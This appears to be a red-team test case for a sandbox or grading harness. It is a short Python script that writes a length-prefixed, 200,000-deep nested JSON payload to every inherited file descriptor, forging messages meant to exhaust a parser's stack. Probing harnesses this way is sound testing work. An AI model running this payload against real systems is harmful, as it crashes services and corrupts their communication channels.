# /// redteam
# category = "forgery"
# allowed = ["wrong_answer", "runtime_error", "security_violation"]
# limits = { wall_s = 3.0 }
# ///
"""Writes deeply nested JSON to every descriptor, to exhaust the stack of a parser."""

import os
import struct

body = b"[" * 200_000 + b"]" * 200_000
for descriptor in range(3, 1100):
    try:
        os.set_blocking(descriptor, False)
        os.write(descriptor, struct.pack(">I", len(body)) + body)
    except OSError:
        pass
os._exit(0)
